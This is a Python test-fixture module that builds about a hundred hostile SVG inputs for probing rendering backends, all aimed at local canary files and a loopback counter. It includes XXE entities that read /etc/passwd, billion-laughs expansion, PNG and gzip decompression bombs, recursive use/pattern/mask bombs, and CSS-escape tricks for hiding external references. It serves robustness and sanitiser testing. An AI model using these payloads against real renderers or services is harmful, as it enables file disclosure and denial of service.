"""SVGs that reach out of themselves, or are made to stall, crash or fill the machine that draws them.

Numbers 00 to 95 are those of the table in which the backends were compared; letters are later inventions.
Each is built when it is asked for, as some are large.
"""

from __future__ import annotations

import base64
import gzip
import io
import random
import struct
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
RECT = '<rect width="100" height="100" fill="red"/>'


@dataclass(frozen=True)
class Lures:
    """What the SVGs try to reach: none of it may ever be opened.

    Attributes:
        folder: holds canary.png, canary.svg, canary.css and canary.ttf; see :func:`place`.
        address: host and port on which somebody counts connections.
    """

    folder: Path
    address: str = "127.0.0.1:9"

    @property
    def http(self) -> str:
        return f"http://{self.address}"

    def place(self) -> None:
        """Write the files."""
        self.folder.mkdir(parents=True, exist_ok=True)
        Image.new("RGB", (64, 64), "lime").save(self.folder / "canary.png")
        (self.folder / "canary.svg").write_text(svg('<g id="a"><rect width="64" height="64" fill="lime"/></g>'))
        (self.folder / "canary.css").write_text("rect{fill:lime}")
        (self.folder / "canary.ttf").write_bytes(b"\0\1\0\0")


def svg(body: str, attributes: str = 'viewBox="0 0 100 100"') -> str:
    return f"<svg {NAMESPACES} {attributes}>{body}</svg>"


def image(target: str, attribute: str = "href") -> str:
    return svg(f'<image {attribute}="{target}" width="100" height="100"/>')


def data_url(content: bytes | str, kind: str = "image/svg+xml") -> str:
    content = content.encode() if isinstance(content, str) else content
    return f"data:{kind};base64,{base64.b64encode(content).decode()}"


def png_bomb(side: int) -> bytes:
    """A PNG of one colour; small, as a pixel takes one bit in it, but four bytes once it is decoded."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (side + 7) // 8)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def nested_data(levels: int, innermost: str) -> str:
    document = innermost
    for _ in range(levels):
        document = image(data_url(document))
    return document


def doubling(levels: int, begin: str, link: str, kind: str = "g", times: int = 10) -> str:
    """A chain of definitions, each of which uses the next one ``times`` times."""
    parts = [f'<{kind} id="k0" {begin}>{RECT}</{kind}>']
    parts += [
        f'<{kind} id="k{level}" {begin}>{link.format(id=f"k{level - 1}") * times}</{kind}>'
        for level in range(1, levels + 1)
    ]
    return f"<defs>{''.join(parts)}</defs>"


def filtered(primitives: str, times: int = 1, region: str = "") -> str:
    return svg(f'<filter id="f" {region}>{primitives}</filter>' + RECT.replace("/>", ' filter="url(#f)"/>') * times)


def zigzag(points: int) -> str:
    draw = random.Random(3)
    return "M" + " ".join(f"{draw.random() * 100:.1f},{draw.random() * 100:.1f}" for _ in range(points))


def billion_laughs() -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f"<!DOCTYPE svg [{entities}]>" + svg("<text>&a9;</text>")


def quadratic_entity() -> str:
    return f'<!DOCTYPE svg [<!ENTITY a "{"x" * 100_000}">]>' + svg(f"<text>{'&a;' * 10_000}</text>")


def control_png() -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(target, "PNG")
    return target.getvalue()


class Hostile(Mapping[str, bytes]):
    """The inputs by name, built on demand."""

    def __init__(self, lures: Lures) -> None:
        self._builders: dict[str, Callable[[], str | bytes]] = (
            _outward(lures)
            | _entities(lures)
            | _sizes()
            | _masses()
            | _cycles()
            | _filters()
            | _embedded()
            | _encodings()
        ) | _inventions(lures)

    def __getitem__(self, name: str) -> bytes:
        built = self._builders[name]()
        return built.encode() if isinstance(built, str) else built

    def __iter__(self) -> Iterator[str]:
        return iter(self._builders)

    def __len__(self) -> int:
        return len(self._builders)


def _outward(lures: Lures) -> dict[str, Callable[[], str | bytes]]:
    folder, http = lures.folder, lures.http
    return {
        "00_control": lambda: svg(RECT),
        "03_image_http": lambda: image(f"{http}/canary.png"),
        "04_image_file_abs_outside": lambda: image(f"file://{folder}/canary.png"),
        "05_image_path_abs_outside": lambda: image(f"{folder}/canary.png"),
        "06_image_dotdot": lambda: image(f"{'../' * 20}{str(folder).lstrip('/')}/canary.png"),
        "07_image_samedir": lambda: image("canary.png"),
        "08_css_import_http": lambda: svg(f"<style>@import url({http}/canary.css);</style>{RECT}"),
        "09_xmlstylesheet": lambda: f'<?xml-stylesheet href="{http}/canary.css" type="text/css"?>{svg(RECT)}',
        "10_xinclude": lambda: svg(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{folder}/canary.svg"/>{RECT}'
        ),
        "11_use_external": lambda: svg(f'<use href="{folder}/canary.svg#a"/><use xlink:href="{http}/canary.svg#a"/>'),
        "12_script_foreign": lambda: svg(
            f"<script>fetch('{http}/script')</script><script href='{http}/script.js'/>"
            f'<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">'
            f'<img src="{folder}/canary.png" srcset="{http}/canary.png 2x"/><object data="{folder}/canary.svg"/>'
            f'<iframe src="{http}/"/></body></foreignObject>{RECT}'
        ),
        "13_font_face_http": lambda: svg(
            f"<style>@font-face{{font-family:x;src:url({http}/canary.ttf),url({folder}/canary.ttf)}}</style>"
            '<text y="50" font-family="x">text</text>'
        ),
    }


def _entities(lures: Lures) -> dict[str, Callable[[], str | bytes]]:
    return {
        "01_xxe_passwd": lambda: (
            '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg('<text y="50">&x;</text>')
        ),
        "02_xxe_param_dtd": lambda: (
            f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{lures.http}/x.dtd"> %p;]>' + svg('<text y="50">a</text>')
        ),
        "20_billion_laughs": billion_laughs,
        "21_quadratic_entity": quadratic_entity,
    }


def _sizes() -> dict[str, Callable[[], str | bytes]]:
    return {
        "30_size_1e9": lambda: svg(RECT, 'width="1e9" height="1e9"'),
        "31_size_1e9_viewbox": lambda: svg(RECT, 'width="1e9" height="1e9" viewBox="0 0 100 100"'),
        "32_aspect_1x1e9": lambda: svg(RECT, 'width="1" height="1e9"'),
        "33_size_zero": lambda: svg(RECT, 'width="0" height="0"'),
        "34_size_neg": lambda: svg(RECT, 'width="-5" height="-5"'),
        "35_viewbox_zero": lambda: svg(RECT, 'viewBox="0 0 0 0"'),
        "36_viewbox_nan": lambda: svg(RECT, 'viewBox="nan inf NaN 1e999"'),
        "37_no_size_no_viewbox": lambda: svg(RECT, ""),
        "44_nan_inf_coords": lambda: svg(
            f'<path d="M nan,inf L 1e999,-1e999 z"/><rect width="inf" height="nan"/>{RECT}'
        ),
        "45_huge_coords": lambda: svg(f'<path d="M -1e38,-1e38 L 1e38,1e38 L 3e38,0 z"/>{RECT}'),
    }


def _masses() -> dict[str, Callable[[], str | bytes]]:
    return {
        "40_nested_g_200k": lambda: svg("<g>" * 200_000 + "</g>" * 200_000),
        "41_nested_svg_5k": lambda: svg("<svg>" * 5000 + "</svg>" * 5000),
        "42_path_1e6": lambda: svg(f'<path d="{zigzag(1_000_000)}"/>')[: 10 * 1024 * 1024],
        "43_elems_300k": lambda: svg('<rect width="9" height="9"/>' * 300_000),
        "46_dash_tiny": lambda: svg('<path d="M0,0 H100" stroke="red" stroke-dasharray="1e-9"/>'),
        "47_stroke_dash_long": lambda: svg('<path d="M0,0 H1e9" stroke="red" stroke-dasharray="0.1"/>'),
    }


def _cycles() -> dict[str, Callable[[], str | bytes]]:
    return {
        "50_use_self": lambda: svg(f'<g id="a"><use href="#a"/>{RECT}</g>'),
        "51_use_mutual": lambda: svg(f'<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/>{RECT}</g>'),
        "52_use_bomb": lambda: svg(doubling(9, "", '<use href="#{id}"/>') + '<use href="#k9"/>'),
        "53_pattern_self": lambda: svg(
            '<pattern id="p" width="9" height="9"><rect width="9" height="9" fill="url(#p)"/></pattern>'
            '<rect width="100" height="100" fill="url(#p)"/>'
        ),
        "54_mask_self": lambda: svg(
            '<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask>'
            '<rect width="100" height="100" mask="url(#m)"/>'
        ),
        "55_pattern_tiny": lambda: svg(
            '<pattern id="p" width="1e-7" height="1e-7" patternUnits="userSpaceOnUse"><rect width="1" height="1"/>'
            '</pattern><rect width="100" height="100" fill="url(#p)"/>'
        ),
    }


def _filters() -> dict[str, Callable[[], str | bytes]]:
    return {
        "60_blur_1e6": lambda: filtered('<feGaussianBlur stdDeviation="1e6"/>'),
        "61_filter_region_1e6": lambda: filtered(
            '<feGaussianBlur stdDeviation="1"/>', region='x="-1e6" y="-1e6" width="2e6" height="2e6"'
        ),
        "62_morphology_1e4": lambda: filtered('<feMorphology operator="dilate" radius="10000"/>'),
        "63_turbulence": lambda: filtered('<feTurbulence numOctaves="100000" baseFrequency="0.5"/>'),
        "64_convolve_big": lambda: filtered(f'<feConvolveMatrix order="150" kernelMatrix="{"1 " * 22_500}"/>'),
        "65_filter_chain_500": lambda: filtered('<feGaussianBlur stdDeviation="2"/>' * 500),
    }


def _embedded() -> dict[str, Callable[[], str | bytes]]:
    return {
        "70_png_bomb_30k": lambda: image(data_url(png_bomb(30_000), "image/png")),
        "71_base64_garbage_20MB": lambda: image(data_url(b"\x5a" * 15_000_000, "image/png")),
        "72_nested_data_svg": lambda: nested_data(20, svg(RECT)),
        "73_svgz": lambda: gzip.compress(svg(RECT).encode()),
        "74_svgz_bomb": lambda: gzip.compress(svg(" " * 50_000_000).encode()),
    }


def _encodings() -> dict[str, Callable[[], str | bytes]]:
    text = svg(f"<title>é</title>{RECT}")
    return {
        "80_bom_utf8": lambda: "\ufeff" + text,
        "81_utf16": lambda: text.encode("utf-16"),
        "82_latin1_decl": lambda: ('<?xml version="1.0" encoding="ISO-8859-1"?>' + text).encode("latin-1"),
        "83_latin1_nodecl": lambda: text.encode("latin-1"),
        "84_null_byte": lambda: svg("\0" + RECT),
        "85_empty": lambda: b"",
        "86_binary": lambda: random.Random(8).randbytes(5000),
        "87_png_named_svg": control_png,
        "88_html": lambda: "<!DOCTYPE html><html><body><p>no picture</p></body></html>",
        "89_truncated": lambda: svg(RECT)[:-20],
        "90_leading_space_decl": lambda: ' \n<?xml version="1.0"?>' + svg(RECT),
        "91_no_xmlns": lambda: f'<svg viewBox="0 0 100 100">{RECT}</svg>',
        "92_unescaped_amp": lambda: svg(f"<title>R&D</title>{RECT}"),
        "93_undefined_ns": lambda: svg(f'<g inkscape:label="a">{RECT}</g>'),
        "94_dup_attr": lambda: svg('<rect width="100" width="50" height="100"/>'),
        "95_missing_urlid": lambda: svg('<rect width="100" height="100" fill="url(#none)" filter="url(#none)"/>'),
    }


def _inventions(lures: Lures) -> dict[str, Callable[[], str | bytes]]:
    return _hidden_references(lures) | _multiplied() | _oversized()


def _hidden_references(lures: Lures) -> dict[str, Callable[[], str | bytes]]:
    folder, http = lures.folder, lures.http
    inner = image(f"{folder}/canary.png")
    font = f"<style>@font-face{{font-family:x;src:u\\72l({folder}/canary.ttf)}}</style>"
    return {
        "a01_css_escape_in_style": lambda: svg(f'<g style="fill:u\\72l({http}/canary.svg#a)">{RECT}</g>'),
        "a02_css_escape_long": lambda: svg(f"<style>rect{{mask:\\000075rl({http}/canary.svg#a)}}</style>{RECT}"),
        "a03_css_escape_attribute": lambda: svg(f'<g filter="U\\52 L( &quot;{http}/canary.svg#a&quot; )">{RECT}</g>'),
        "a04_css_escaped_import": lambda: svg(f"<style>@\\69mport '{http}/canary.css';</style>{RECT}"),
        "a05_css_import_in_data": lambda: svg(
            f"<style>@import url({data_url(f'@import url({http}/canary.css);', 'text/css')});</style>{RECT}"
        ),
        "a06_css_image_set": lambda: svg(f"<style>rect{{mask-image:image-set('{http}/canary.png' 1x)}}</style>{RECT}"),
        "a07_css_font_escape": lambda: svg(f'{font}<text y="50" font-family="x">text</text>'),
        "a08_fe_image": lambda: filtered(f'<feImage xlink:href="{folder}/canary.png"/>'),
        "a09_animated_href": lambda: svg(
            f'<image width="100" height="100"><set attributeName="href" to="{folder}/canary.png"/>'
            f'<animate attributeName="xlink:href" values="#a;{http}/canary.png" dur="1s"/></image>'
        ),
        "a10_xml_base": lambda: svg(f'<g xml:base="{http}/"><use href="#a"/>{RECT}</g>'),
        "a11_data_svg_reads_file": lambda: image(data_url(inner)),
        "a12_data_svg_in_data_svg": lambda: image(data_url(image(data_url(inner)))),
        "a13_data_svg_percent": lambda: image("data:image/svg+xml," + inner.replace('"', "%22").replace("<", "%3C")),
        "a14_data_svgz": lambda: image(data_url(gzip.compress(inner.encode()))),
        "a15_data_svg_as_png": lambda: image(data_url(inner, "image/png")),
        "a16_data_svg_utf16": lambda: image(data_url(inner.encode("utf-16"))),
        "a17_data_xxe": lambda: image(
            data_url('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text>&x;</text>"))
        ),
        "a18_data_postscript": lambda: image(data_url(f"%!PS-Adobe-3.0\n({folder}/canary.png) run", "image/eps")),
        "a19_fragment_climbs": lambda: image(f"#/../{folder}/canary.png"),
        "a20_data_without_comma": lambda: image(f"data:/../{folder}/canary.png"),
        "a21_character_reference": lambda: image("".join(f"&#{ord(letter)};" for letter in f"{folder}/canary.png")),
        "a22_comment_in_style": lambda: svg(f"<style>/*'*/rect{{fill:url({http}/canary.svg#a)}}/*'*/</style>{RECT}"),
        "a23_in_css_of_data_svg": lambda: image(
            data_url(svg(f"<style>@import '{http}/canary.css';</style><g style='fill:url({http}/b#a)'>{RECT}</g>"))
        ),
        "a24_in_comments_and_cdata": lambda: svg(
            f'<!--><image href="{folder}/canary.png" width="100" height="100"/>-->'
            f'<desc><![CDATA[<image href="{folder}/canary.png" width="100" height="100"/>]]></desc>{RECT}'
        ),
    }


def _multiplied() -> dict[str, Callable[[], str | bytes]]:
    cell = 'width="9" height="9"'
    area = '<rect width="100" height="100" {}/>'
    links = [f'<use href="#r{number}"/>' for number in range(12)]
    ring = "".join(f'<g id="r{n}">{"".join(links[:n] + links[n + 1 :])}</g>' for n in range(12))
    shown = [f'<feImage href="#k{number}"/>' * 10 for number in range(8)]
    return {
        "b01_pattern_bomb": lambda: svg(
            doubling(7, cell, area.format('fill="url(#{id})"'), "pattern") + area.format('fill="url(#k7)"')
        ),
        "b02_mask_bomb": lambda: svg(
            doubling(7, "", area.format('mask="url(#{id})"'), "mask") + area.format('mask="url(#k7)"')
        ),
        "b03_clip_bomb": lambda: svg(
            doubling(7, "", area.format('clip-path="url(#{id})"'), "clipPath") + area.format('clip-path="url(#k7)"')
        ),
        "b04_marker_bomb": lambda: svg(
            f'<marker id="m">{RECT * 1000}</marker><g marker-mid="url(#m)"><path d="{zigzag(5000)}"/></g>'
        ),
        "b05_fe_image_bomb": lambda: svg(
            '<g id="k0">'
            + RECT
            + "</g>"
            + "".join(
                f'<filter id="f{n}">{shown[n - 1]}</filter><g id="k{n}" filter="url(#f{n})">{RECT}</g>'
                for n in range(1, 9)
            )
        ),
        "b06_use_ring": lambda: svg(ring),
        "b07_use_chain_5000": lambda: svg(
            "<defs>" + "".join(f'<g id="k{n}"><use href="#k{n + 1}"/></g>' for n in range(5000)) + "</defs>"
            f'<g id="k5000">{RECT}</g><use href="#k0"/>'
        ),
        "b08_clip_chain_1000": lambda: svg(
            "".join(f'<clipPath id="k{n}" clip-path="url(#k{n + 1})">{RECT}</clipPath>' for n in range(1000))
            + area.format('clip-path="url(#k0)"')
        ),
        "b09_bomb_by_style_sheet": lambda: svg(
            "<style>*{filter:url(#f)}</style><filter id='f'><feGaussianBlur stdDeviation='9'/></filter>" + RECT * 5000
        ),
        "b10_each_filtered": lambda: filtered('<feGaussianBlur stdDeviation="9"/>', times=5000),
        "b11_filter_functions": lambda: svg(f'<g filter="{"blur(9px) " * 5000}">{RECT}</g>'),
        "b12_picture_1000_times": lambda: svg(
            '<image id="i" width="9" height="9" href="'
            + data_url(png_bomb(4000), "image/png")
            + '"/>'
            + '<use href="#i"/>' * 1000
        ),
        "b13_bomb_in_data_svg": lambda: svg(
            '<image id="i" href="' + data_url(svg(RECT * 1000)) + '"/>' + '<use href="#i"/>' * 1000
        ),
        "b14_morphology_scaled": lambda: svg(
            '<filter id="f"><feMorphology radius="4"/></filter><rect width="9" height="9" filter="url(#f)"/>',
            'viewBox="0 0 10 10"',
        ),
    }


def _oversized() -> dict[str, Callable[[], str | bytes]]:
    return {
        "c01_dasharray_300k": lambda: svg(f'<path d="M0,0 H100" stroke="red" stroke-dasharray="{"1 " * 300_000}"/>'),
        "c02_text_1e6": lambda: svg(f'<text y="50">{"abcd efg " * 110_000}</text>'),
        "c03_path_in_css": lambda: svg(f"<path style=\"d:path('{zigzag(150_000)}')\"/>"),
        "c04_font_size_1e9": lambda: svg('<text y="50" font-size="1e9">abc</text>'),
        "c05_attributes_100k": lambda: svg("<g " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"),
        "c06_many_paths": lambda: svg(f'<path d="{"M1,1 L2,3 " * 20_000}"/>' * 20),
        "c07_quotes_in_css": lambda: svg(f"<style>{'@import/*' * 100_000}</style>{RECT}"),
        "c08_foreign_object": lambda: svg(
            '<foreignObject width="1e9" height="1e9"><p xmlns="http://www.w3.org/1999/xhtml">'
            + "text " * 10_000
            + "</p></foreignObject>"
        ),
        "c09_animations_20k": lambda: svg(
            '<rect width="100" height="100">'
            + '<animate attributeName="x" values="0;1;2" dur="1e-9s" repeatCount="indefinite"/>' * 20_000
            + "</rect>"
        ),
        "c10_transform_1e30": lambda: svg(f'<g transform="scale(1e30) rotate(1e30)">{RECT}</g>'),
        "c11_gradient_stops_40k": lambda: svg(
            f'<linearGradient id="a">{"<stop/>" * 40_000}</linearGradient><rect width="9" height="9" fill="url(#a)"/>'
        ),
        "c12_stroke_1e38": lambda: svg('<path d="M0,0 L100,100" stroke="red" stroke-width="3e38"/>'),
    }
